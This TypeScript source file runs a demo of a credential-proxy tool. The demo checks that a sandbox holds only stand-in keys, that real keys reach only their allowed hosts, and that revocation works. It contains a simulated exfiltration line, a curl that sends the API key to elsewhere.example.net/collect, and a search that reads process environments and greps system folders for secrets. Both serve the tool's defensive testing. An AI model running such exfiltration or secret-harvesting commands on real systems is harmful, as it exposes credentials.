import { randomBytes } from 'node:crypto';
import { mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync, mkdirSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Client, SandboxWithAccess } from '../../client/client.ts';
import type { Cli } from '../command.ts';
import type { Output } from '../output.ts';
import { printable } from '../text.ts';
import { writeTrust } from '../run/local-command.ts';
import { Claims } from './claims.ts';
import { lineRunner } from './commands.ts';
import type { CommandResult, RunLine } from './commands.ts';
import { startServer, startUpstream, until } from './processes.ts';
import type { UpstreamProcess } from './processes.ts';
import type { ReceivedRequest } from './upstream.ts';

/** RFC 2606 names: nobody's. The server is told to dial the demo's upstream for them. */
const apiHost = 'api.example.com';
const gitHost = 'git.example.com';
const elsewhere = 'elsewhere.example.net';

interface Scene {
  output: Output;
  claims: Claims;
  client: Client;
  upstream: UpstreamProcess;
  sandbox: SandboxWithAccess;
  run: RunLine;
  dataDir: string;
  apiKey: string;
  gitToken: string;
}

/**
 * Tells the story with real processes: a throw-away server, an upstream, a sandbox and the programs in it. Needs no
 * network. Resolves with whether every claim was seen to hold; nothing of it stays behind.
 */
export async function tellStory(
  cli: Cli,
  { output, driver }: { output: Output; driver: string | undefined },
): Promise<Claims> {
  await using stack = new AsyncDisposableStack();
  const claims = new Claims(output);
  const root = mkdtempSync(join(tmpdir(), 'standin-demo-'));
  stack.defer(() => rmSync(root, { recursive: true, force: true }));
  const stop = (name: NodeJS.Signals) =>
    void stack.disposeAsync().then(() => process.exit(name === 'SIGINT' ? 130 : 143));
  process.once('SIGINT', stop).once('SIGTERM', stop);
  stack.defer(() => void process.off('SIGINT', stop).off('SIGTERM', stop));

  const scene = await setUp(cli, { output, claims, root, stack, driver });
  await showHeld(scene);
  await usePrograms(scene);
  await tryElsewhere(scene);
  await showAudit(scene);
  await revoke(scene);
  return claims;
}

async function setUp(
  cli: Cli,
  stage: {
    output: Output;
    claims: Claims;
    root: string;
    stack: AsyncDisposableStack;
    driver: string | undefined;
  },
): Promise<Scene> {
  const { output, claims, root, stack, driver } = stage;
  const folder = (name: string) => {
    const path = join(root, name);
    mkdirSync(path, { mode: 0o700 });
    return path;
  };
  const apiKey = `demo_live_${randomBytes(18).toString('hex')}`;
  const gitToken = `demo_git_${randomBytes(18).toString('hex')}`;
  const path = cli.io.env['PATH'] ?? '/usr/local/bin:/usr/bin:/bin';

  heading(output, 1, 'A throw-away server, and an upstream in a process of its own');
  const upstream = stack.use(
    await startUpstream(cli.self, {
      directory: folder('upstream'),
      path,
      apiHost,
      gitHost,
      elsewhere,
      apiAuthorization: `Bearer ${apiKey}`,
      gitAuthorization: basic('x-access-token', gitToken),
    }),
  );
  const caFile = join(root, 'upstream.pem');
  writeFileSync(caFile, upstream.certPem);
  const dataDir = folder('data');
  const server = stack.use(
    await startServer(cli.self, {
      dataDir,
      path,
      apiKey: `demo_${randomBytes(24).toString('hex')}`,
      settings: {
        STANDIN_EGRESS_CA_FILE: caFile,
        STANDIN_EGRESS_CONNECT_TO: [apiHost, gitHost, elsewhere]
          .map((host) => `${host}:443:127.0.0.1:${upstream.port}`)
          .join(','),
      },
    }),
  );
  say(output, [
    ['server', `${server.client.baseUrl}, process ${server.pid}`],
    ['upstream', `${apiHost}, ${gitHost} and ${elsewhere}, process ${upstream.pid}`],
  ]);

  const { client } = server;
  await client.secrets.create({ name: 'api-key', value: apiKey, hosts: [apiHost], auth: { type: 'bearer' } });
  const git = { type: 'basic', username: 'x-access-token' } as const;
  await client.secrets.create({ name: 'git-token', value: gitToken, hosts: [gitHost], auth: git });
  const secrets = { API_KEY: 'api-key', GIT_TOKEN: 'git-token' };
  const sandbox = await client.sandboxes.create({ name: 'demo', secrets, driver });
  stack.defer(() => client.sandboxes.remove(sandbox.id));
  const trust = writeTrust(sandbox.egress.ca_pem);
  stack.defer(() => trust.remove());
  const run = lineRunner({ client, sandbox, io: cli.io, trustPath: trust.path, home: folder('home') });
  return { output, claims, client, upstream, sandbox, run, dataDir, apiKey, gitToken };
}

async function showHeld({ output, claims, sandbox, run, dataDir, apiKey, gitToken }: Scene): Promise<void> {
  heading(output, 2, 'Two keys are stored; the sandbox is given stand-ins');
  if (sandbox.driver === 'external') {
    say(output, [
      ['note', 'this machine runs no sandboxes (`standin doctor` says why): plain processes, not isolated'],
    ]);
  }
  const held = await run('printf "%s\\n%s\\n" "$API_KEY" "$GIT_TOKEN"');
  const [apiStandIn = '', gitStandIn = ''] = held.stdout.split('\n');
  sideBySide(
    output,
    ['what was stored', 'what the sandbox holds'],
    [
      ['API_KEY', apiKey, apiStandIn],
      ['GIT_TOKEN', gitToken, gitStandIn],
    ],
  );
  const search =
    'env; cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline 2>/dev/null; grep -rs demo_ /home /tmp /run /etc; true';
  const everything = await run(sandbox.driver === 'external' ? 'env' : search);
  const isClean =
    !contains(everything, apiKey) && !contains(everything, gitToken) && everything.stdout.includes(apiStandIn);
  claims.check('no variable, process or file in the sandbox holds a key', isClean && held.exitCode === 0, held.stderr);
  claims.check("none of the server's files holds a key in clear", !filesHold(dataDir, [apiKey, gitToken]));
}

async function usePrograms(scene: Scene): Promise<void> {
  const { output, claims, upstream, run, apiKey, gitToken } = scene;
  heading(output, 3, 'Programs that know nothing of this use them');
  const programs = [
    {
      name: 'curl',
      line: `curl -sS --fail-with-body -H "Authorization: Bearer $API_KEY" https://${apiHost}/v1/account`,
      expect: 'acme',
      host: apiHost,
      sent: 'Bearer $API_KEY',
      must: `Bearer ${apiKey}`,
    },
    {
      name: 'git',
      line: `cd "$(mktemp -d)" && git clone -q "https://x-access-token:$GIT_TOKEN@${gitHost}/app.git" && cat app/README.md`,
      expect: 'private repository',
      host: gitHost,
      sent: 'x-access-token:$GIT_TOKEN',
      must: basic('x-access-token', gitToken),
    },
    {
      name: 'node',
      line: `node -e '${nodeProgram}'`,
      expect: 'acme',
      host: apiHost,
      sent: 'Bearer $API_KEY',
      must: `Bearer ${apiKey}`,
    },
  ];
  const rows: [string, string, string][] = [];
  for (const { name, line, expect, host, sent, must } of programs) {
    const from = upstream.received.length;
    const result = await run(line);
    const succeeded = result.exitCode === 0 && result.stdout.includes(expect);
    const arrived = succeeded ? await receivedBy(upstream, { host, from, authorization: must }) : undefined;
    rows.push([name, sent, arrived === undefined ? 'nothing' : readable(must)]);
    claims.check(
      `${name} got its answer, and the upstream the real key`,
      succeeded && arrived !== undefined && !contains(result, apiKey) && !contains(result, gitToken),
      result.stderr || result.stdout,
    );
  }
  sideBySide(output, ['what the sandbox sent', 'what the upstream received'], rows);
  const standIns = Object.values(scene.sandbox.egress.env).filter((value) => value.includes('standin'));
  const leaked = upstream.received.some((request) =>
    standIns.some((each) => request.rawHeaders.join('\n').includes(each)),
  );
  claims.check('no stand-in reached the upstream', !leaked && standIns.length >= 2);
}

async function tryElsewhere({ output, claims, upstream, run, apiKey, gitToken }: Scene): Promise<void> {
  heading(output, 4, `The same key for the wrong host, ${elsewhere}`);
  const from = upstream.received.length;
  const stolen = await run(`curl -sS -D - -H "Authorization: Bearer $API_KEY" https://${elsewhere}/collect`);
  const plain = await run(`curl -sS --fail-with-body https://${elsewhere}/hello`);
  const reached = await receivedBy(upstream, { host: elsewhere, from, authorization: null });
  const received = upstream.received.slice(from);
  sideBySide(
    output,
    ['what the sandbox got', 'what that host received'],
    [
      [
        'with the key',
        refusalOf(stolen),
        received.some(({ target }) => target === '/collect') ? 'the request' : 'nothing',
      ],
      [
        'without',
        plain.stdout.trim(),
        reached === undefined ? 'nothing' : `${reached.method} ${reached.target}, no key`,
      ],
    ],
  );
  claims.check(
    'the request with the key was refused',
    /credential_host_mismatch/.test(stolen.stdout),
    stolen.stderr || stolen.stdout,
  );
  claims.check(
    'nothing of it reached that host',
    received.every(({ target }) => target !== '/collect'),
  );
  claims.check(
    'a request without the key got there, without any key',
    reached !== undefined,
    plain.stderr || plain.stdout,
  );
  const heads = upstream.received
    .filter(({ host }) => host === elsewhere)
    .map(({ rawHeaders }) => rawHeaders.join('\n'));
  claims.check(
    'that host has never seen a key',
    heads.every((head) => !head.includes(apiKey) && !head.includes(gitToken)),
  );
}

async function showAudit({ output, claims, client }: Scene): Promise<void> {
  heading(output, 5, 'What the audit trail says of api-key');
  const complete = async () => {
    const events = await client.secrets.audit('api-key');
    return events.length >= 3;
  };
  await until(complete, { withinMs: 5000 }).catch(() => undefined);
  const events = await client.secrets.audit('api-key');
  if (!output.json) {
    output.table(events.toReversed(), [
      { title: '  ', of: () => ' ' },
      { title: 'REQUEST', of: (row) => `${row.method ?? ''} ${row.host}${row.path ?? ''}` },
      { title: 'STATUS', of: (row) => row.status, align: 'right' },
      { title: 'UPSTREAM', of: (row) => row.upstream_status, align: 'right' },
      { title: 'REFUSED AS', of: (row) => row.error_code },
    ]);
  }
  const used = events.filter(
    ({ host, status, upstream_status }) => host === apiHost && status === 200 && upstream_status === 200,
  );
  const refused = events.filter(
    ({ host, error_code }) => host === elsewhere && error_code === 'credential_host_mismatch',
  );
  claims.check('it has both uses and the refusal', used.length === 2 && refused.length === 1, `${events.length} rows`);
}

async function revoke({ output, claims, client, upstream, run }: Scene): Promise<void> {
  heading(output, 6, 'The key is deleted while the sandbox runs');
  await client.secrets.remove('api-key');
  const from = upstream.received.length;
  const result = await run(`curl -sS -D - -H "Authorization: Bearer $API_KEY" https://${apiHost}/v1/account`);
  say(output, [['curl', refusalOf(result)]]);
  const arrived = upstream.received.slice(from);
  claims.check(
    'the very next request is refused',
    /credential_revoked/.test(result.stdout),
    result.stderr || result.stdout,
  );
  claims.check('and does not reach the upstream', arrived.length === 0);
}

const nodeProgram = [
  `fetch("https://${apiHost}/v1/account", { headers: { authorization: "Bearer " + process.env.API_KEY } })`,
  '.then(async (answer) => { if (!answer.ok) throw new Error(answer.status); console.log(await answer.text()); })',
].join('');

/** The request that came to `host` since `from` with exactly that `Authorization`; its report may lag the answer. */
async function receivedBy(
  upstream: UpstreamProcess,
  wanted: { host: string; from: number; authorization: string | null },
): Promise<ReceivedRequest | undefined> {
  const find = () =>
    upstream.received
      .slice(wanted.from)
      .find(({ host, authorization }) => host === wanted.host && authorization === wanted.authorization);
  await until(async () => find() !== undefined, { withinMs: 3000 }).catch(() => undefined);
  return find();
}

function basic(user: string, password: string): string {
  return `Basic ${Buffer.from(`${user}:${password}`).toString('base64')}`;
}

/** A Basic credential as its name and password. */
function readable(authorization: string): string {
  const [scheme, text = ''] = authorization.split(' ');
  return scheme === 'Basic' ? Buffer.from(text, 'base64').toString() : authorization;
}

function contains({ stdout, stderr }: CommandResult, value: string): boolean {
  return stdout.includes(value) || stderr.includes(value);
}

/** Status and code of a refusal, from the head that curl printed. */
function refusalOf({ stdout }: CommandResult): string {
  const status = stdout.match(/^HTTP\/\S+ (\d{3})(?![^]*^HTTP\/)/m)?.[1] ?? 'no answer';
  return `${status} ${/^x-standin-error: *(\S+)/im.exec(stdout)?.[1] ?? ''}`.trim();
}

function filesHold(directory: string, values: string[]): boolean {
  return readdirSync(directory, { recursive: true, withFileTypes: true })
    .filter((entry) => entry.isFile())
    .map((entry) => readFileSync(join(entry.parentPath, entry.name)))
    .some((bytes) => values.some((value) => bytes.includes(value)));
}

function heading(output: Output, number: number, text: string): void {
  if (!output.json) output.line(`\n${output.style('bold', `${number}  ${text}`)}`);
}

function say(output: Output, pairs: readonly (readonly [string, string])[]): void {
  if (output.json) return;
  for (const [name, value] of pairs) output.line(`   ${output.style('dim', name.padEnd(12))}  ${printable(value)}`);
}

/** Name, left, right: three columns, and a blank line after them. */
function sideBySide(output: Output, [left, right]: [string, string], rows: readonly [string, string, string][]): void {
  if (output.json) return;
  const widths = [12, Math.max(left.length, ...rows.map((row) => row[1].length))] as const;
  const line = (name: string, first: string, second: string) =>
    `   ${name.padEnd(widths[0])}  ${first.padEnd(widths[1])}  ${second}`;
  output.line(output.style('dim', line('', left, right)));
  for (const row of rows) output.line(line(printable(row[0]), printable(row[1]), printable(row[2])));
}
